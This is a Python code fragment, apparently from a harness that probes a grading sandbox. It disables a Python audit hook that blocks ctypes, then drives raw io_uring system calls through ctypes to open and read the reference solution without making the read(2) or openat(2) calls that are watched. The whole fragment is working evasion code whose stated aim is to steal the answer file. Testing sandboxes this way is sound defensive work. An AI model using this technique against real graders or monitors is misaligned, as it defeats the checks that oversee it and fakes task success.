# io_uring: set up a ring with the raw system call (425) through ctypes and, if that works, read the
# reference solution with IORING_OP_OPENAT + IORING_OP_READ, so no read(2) or openat(2) is ever made
# by the worker itself. (The rings are mapped with libc's mmap: the mmap module may not be importable.)


def attack():
    disarm_audit_hook()  # ctypes is refused by the hook; a student swaps the hook out first
    import ctypes
    import struct

    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    ok, ring_fd = attempt("io_uring_setup(4) through libc.syscall(425)", lambda: syscall(425, 4, params))
    if not ok:
        return
    sq_entries, cq_entries = struct.unpack_from("<II", params.raw, 0)
    features = struct.unpack_from("<I", params.raw, 20)[0]
    sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("<7I", params.raw, 40)
    cq_head, cq_tail, cq_mask, _, _, cq_cqes = struct.unpack_from("<6I", params.raw, 80)
    sq_size, cq_size = sq_array + sq_entries * 4, cq_cqes + cq_entries * 16
    if features & 1:  # IORING_FEAT_SINGLE_MMAP
        sq_size = cq_size = max(sq_size, cq_size)
    mmap = libc().mmap
    mmap.restype = ctypes.c_void_p
    mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

    def mapped(size, offset):
        address = mmap(None, size, 3, 0x8001, ring_fd, offset)  # PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "mmap of the ring")
        return address

    sq_ring = mapped(sq_size, 0)
    cq_ring = sq_ring if features & 1 else mapped(cq_size, 0x8000000)
    sqes = mapped(sq_entries * 64, 0x10000000)

    def u32(address):
        return ctypes.c_uint32.from_address(address)

    def run(opcode, fd, address, length, offset, op_flags):
        """Submit one SQE and wait for its completion; returns its result (a negative errno on failure)."""
        tail = u32(sq_ring + sq_tail).value
        index = tail & u32(sq_ring + sq_mask).value
        entry = struct.pack("<BBHiQQIIQ", opcode, 0, 0, fd, offset, address, length, op_flags, 7).ljust(64, b"\0")
        ctypes.memmove(sqes + 64 * index, entry, 64)
        u32(sq_ring + sq_array + 4 * index).value = index
        u32(sq_ring + sq_tail).value = tail + 1
        syscall(426, ring_fd, 1, 1, 1, 0, 0)  # io_uring_enter(to_submit=1, min_complete=1, GETEVENTS)
        head = u32(cq_ring + cq_head).value
        slot = head & u32(cq_ring + cq_mask).value
        result = ctypes.c_int32.from_address(cq_ring + cq_cqes + 16 * slot + 8).value
        u32(cq_ring + cq_head).value = head + 1
        return result

    folder, name = TARGETS["solution_files"][0]
    path = ctypes.create_string_buffer(os.path.join(folder, name).encode())

    def open_and_read():
        fd = run(18, -100, ctypes.addressof(path), 0, 0, os.O_RDONLY)  # IORING_OP_OPENAT at AT_FDCWD
        if fd < 0:
            raise OSError(-fd, "IORING_OP_OPENAT: " + os.strerror(-fd))
        buffer = ctypes.create_string_buffer(1 << 16)
        count = run(22, fd, ctypes.addressof(buffer), len(buffer), 0, 0)  # IORING_OP_READ
        if count < 0:
            raise OSError(-count, "IORING_OP_READ: " + os.strerror(-count))
        return buffer.raw[:count]

    steal_module("read the reference solution through io_uring", open_and_read)
